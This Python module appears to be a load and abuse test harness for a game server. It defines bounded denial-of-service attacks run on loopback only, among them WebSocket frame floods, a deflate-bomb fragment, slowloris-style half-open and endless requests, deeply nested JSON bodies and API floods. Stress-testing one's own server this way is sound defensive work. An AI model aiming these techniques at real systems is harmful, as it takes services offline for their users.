"""Attacks on a server on this machine, for attack.py: each runs in a process of its own until it is killed.

All of them are bounded: at most MAX_RATE bytes per second, a few hundred connections, and addresses of the loopback
interface only. Attackers come from 127.0.66.x; the server limits each of these like any other address.
"""

from __future__ import annotations

import asyncio
import itertools
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

import httpx

HOST = "127.0.0.1"
MAX_RATE = 1_000_000  # bytes per second and attack
PART = 16_384  # bytes sent at once
PING, PONG, TEXT, CONTINUATION = 0x9, 0xA, 0x1, 0x0
TROUBLE = (OSError, asyncio.IncompleteReadError, httpx.HTTPError)


@dataclass
class Target:
    """The server, and what attackers know: an open table, a finished one, and a record of a long game."""

    port: int
    game: str
    table: str
    finished: str
    record: str

    @property
    def url(self) -> str:
        """The address of the server."""
        return f"http://{HOST}:{self.port}"

    def client(self, number: int) -> httpx.AsyncClient:
        """Return an HTTP client at an attacker's address."""
        transport = httpx.AsyncHTTPTransport(local_address=source(number))
        return httpx.AsyncClient(base_url=self.url, transport=transport, timeout=20)

    @asynccontextmanager
    async def connection(self, number: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Open a connection from an attacker's address."""
        reader, writer = await asyncio.open_connection(HOST, self.port, local_addr=(source(number), 0))
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    @asynccontextmanager
    async def websocket(
        self, number: int, cookie: str = "", extensions: str = ""
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Open a WebSocket."""
        head = [f"GET /api/socket HTTP/1.1\r\nHost: {HOST}:{self.port}\r\nUpgrade: websocket\r\nConnection: Upgrade"]
        head += ["Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"]
        head += [f"Cookie: tablee={cookie}"] if cookie else []
        head += [f"Sec-WebSocket-Extensions: {extensions}"] if extensions else []
        async with self.connection(number) as (reader, writer):
            writer.write("\r\n".join([*head, "", ""]).encode())
            await reader.readuntil(b"\r\n\r\n")
            yield reader, writer


Attack = Callable[[Target], Awaitable[None]]


def source(number: int) -> str:
    """Return the address of an attacker."""
    return f"127.0.66.{1 + number % 200}"


def frame(opcode: int, payload: bytes = b"", is_last: bool = True) -> bytes:
    """Return a masked frame."""
    length = bytes([len(payload)]) if len(payload) < 126 else b"\x7e" + len(payload).to_bytes(2, "big")
    return bytes([opcode | 0x80 * is_last, length[0] | 0x80]) + length[1:] + bytes(4) + payload


async def repeat(action: Callable[[], Awaitable[None]], pause: float = 0.05) -> None:
    """Do something again and again; a refusal is no reason to stop."""
    while True:
        with suppress(*TROUBLE):
            await action()
        await asyncio.sleep(pause)


async def send_on(writer: asyncio.StreamWriter, part: bytes, rate: float = MAX_RATE) -> None:
    """Send the same until the server closes."""
    while not writer.transport.is_closing():
        writer.write(part)
        await writer.drain()
        await asyncio.sleep(len(part) / rate)


# Frames


def flood(content: bytes, first: bytes = b"") -> Attack:
    """Return an attack that sends frames on one socket after the other."""

    async def attack(target: Target) -> None:
        async def once() -> None:
            async with target.websocket(0) as (_, writer):
                writer.write(first)
                await send_on(writer, content * (PART // len(content)))

        await repeat(once)

    return attack


async def unread_pings(target: Target) -> None:
    """Send pings and never read the pongs, on 20 sockets."""

    async def once() -> None:
        async with target.websocket(0) as (reader, writer):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            await send_on(writer, frame(PING, b"x" * 125) * 20, MAX_RATE / 20)

    await asyncio.gather(*(repeat(once) for _ in range(20)))


async def unread_tables(target: Target) -> None:
    """Ask for a whole table again and again and never read it, on 20 sockets."""
    watch = frame(TEXT, json.dumps({"type": "watch", "id": "w", "table": target.table}).encode())

    async def once() -> None:
        async with target.websocket(0) as (reader, writer):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            await send_on(writer, watch * 4, MAX_RATE / 100)

    await asyncio.gather(*(repeat(once) for _ in range(20)))


async def many_sockets(target: Target) -> None:
    """Open 400 sockets at each of two addresses, and keep them open with pings."""

    async def once(number: int) -> None:
        async with target.websocket(number) as (_, writer):
            while not writer.transport.is_closing():
                writer.write(frame(TEXT, b'{"type":"ping"}'))
                await asyncio.sleep(5)

    await asyncio.gather(*(repeat(lambda number=index % 2: once(number), 1.0) for index in range(800)))


async def inflating_frames(target: Target) -> None:
    """Ask for compression and send what would be a megabyte of zeros, if the server agreed to inflate it."""
    bomb = bytes.fromhex("ecc1010100000082205fa7ff")  # the beginning of a compressed run

    async def once() -> None:
        async with target.websocket(0, extensions="permessage-deflate") as (_, writer):
            await send_on(writer, bytes([0xC1, 0x80 | len(bomb), 0, 0, 0, 0]) + bomb, MAX_RATE / 10)

    await repeat(once)


# Requests


def endless(beginning: bytes, part: bytes) -> Attack:
    """Return an attack that sends requests which never end, on 10 connections."""

    async def attack(target: Target) -> None:
        async def once() -> None:
            async with target.connection(0) as (_, writer):
                writer.write(beginning)
                await send_on(writer, part, MAX_RATE / 10)

        await asyncio.gather(*(repeat(once) for _ in range(10)))

    return attack


def dripping(beginning: bytes, connections: int, addresses: int) -> Attack:
    """Return an attack that holds connections open with a byte every two seconds."""

    async def attack(target: Target) -> None:
        async def once(number: int) -> None:
            async with target.connection(number) as (_, writer):
                writer.write(beginning)
                await send_on(writer, b"a", 0.5)

        await asyncio.gather(*(repeat(lambda n=index % addresses: once(n), 2.0) for index in range(connections)))

    return attack


async def unread_answers(target: Target) -> None:
    """Ask for large files, several at once, and never read them, on 50 connections."""
    request = f"GET /api/openapi.json HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()

    async def once() -> None:
        async with target.connection(0) as (reader, writer):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(request * 6)
            await asyncio.sleep(20)

    await asyncio.gather(*(repeat(once, 0.5) for _ in range(50)))


def reading(*paths: str, clients: int = 16) -> Attack:
    """Return an attack of anonymous readers at one address."""

    async def attack(target: Target) -> None:
        places = itertools.cycle(path.format(**vars(target)) for path in paths)

        async def read() -> None:
            async with target.client(0) as http:
                while True:
                    with suppress(*TROUBLE):
                        await http.get(next(places))
                    await asyncio.sleep(0.01)

        await asyncio.gather(*(read() for _ in range(clients)))

    return attack


# People


async def named(target: Target, number: int, name: str) -> httpx.AsyncClient:
    """Return the client of a person with a name."""
    http = target.client(number)
    await http.put("/api/me", json={"name": name})
    return http


def by_people(count: int, action: Callable[[Target, httpx.AsyncClient], Awaitable[None]], pause: float) -> Attack:
    """Return an attack by people with names, all at one address."""

    async def attack(target: Target) -> None:
        people = [await named(target, 0, f"Eve {number}") for number in range(count)]
        await asyncio.gather(*(repeat(lambda http=http: action(target, http), pause) for http in people))

    return attack


async def make_bots(target: Target, http: httpx.AsyncClient) -> None:
    """Make a table at which only strong bots play."""
    request = {"game": target.game, "seats": 2, "bots": ["expert", "expert"], "sits": False, "is_open": True}
    await http.post("/api/tables", json=request)


async def make_open(target: Target, http: httpx.AsyncClient) -> None:
    """Make an open table that waits for players."""
    await http.post("/api/tables", json={"game": target.game, "seats": 2, "is_open": True})


async def import_record(target: Target, http: httpx.AsyncClient) -> None:
    """Bring a record."""
    await http.post("/api/records", json={"record": target.record})


async def read_statistics(target: Target, http: httpx.AsyncClient) -> None:
    """Ask for one's statistics."""
    await http.get("/api/statistics")


async def nest(target: Target, http: httpx.AsyncClient) -> None:
    """Send a body of brackets."""
    headers = {"Content-Type": "application/json"}
    await http.post("/api/tables", content="[" * 8_000 + "]" * 8_000, headers=headers)
    await http.post("/api/tables", content='{"options":' + '{"a":' * 3_000, headers=headers)


async def chat(target: Target, http: httpx.AsyncClient) -> None:
    """Talk at the open table without a break."""
    message = {"type": "chat", "id": "same", "table": target.table, "text": "buy " * 70}
    await http.post(f"/api/tables/{target.table}/commands", json=message)


ATTACKS: dict[str, Attack] = {
    "empty pongs": flood(frame(PONG)),
    "empty fragments": flood(frame(CONTINUATION, is_last=False), frame(TEXT, b'"', is_last=False)),
    "tiny messages": flood(frame(TEXT, b"1")),
    "nested messages": flood(frame(TEXT, b"[" * 8_000)),
    "pings, pongs unread": unread_pings,
    "tables unread": unread_tables,
    "800 sockets": many_sockets,
    "inflating frames": inflating_frames,
    "endless header": endless(b"GET / HTTP/1.1\r\nX: ", b"a" * PART),
    "endless URL": endless(b"GET /", b"a" * PART),
    "endless body": endless(
        b"POST /api/tables HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"4000\r\n" + b"a" * PART + b"\r\n",
    ),
    "1,124 half-open, one address": dripping(b"GET / HT", 1_124, 1),
    "1,124 half-open, 12 addresses": dripping(b"GET / HT", 1_124, 12),
    "slow bodies": dripping(b"PUT /api/me HTTP/1.1\r\nHost: h\r\nContent-Length: 900\r\n\r\n", 300, 3),
    "answers unread": unread_answers,
    "lobby readers": reading("/api/tables", "/", "/api/games"),
    "replay readers": reading("/api/tables/{finished}/moments/40", "/api/tables/{finished}/log?limit=1000"),
    "statistics": by_people(8, read_statistics, 0.01),
    "tables of bots": by_people(12, make_bots, 0.2),
    "lobby flood": by_people(11, make_open, 0.2),
    "imports": by_people(12, import_record, 0.05),
    "nested bodies": by_people(4, nest, 0.01),
    "chat": by_people(6, chat, 0.01),
}
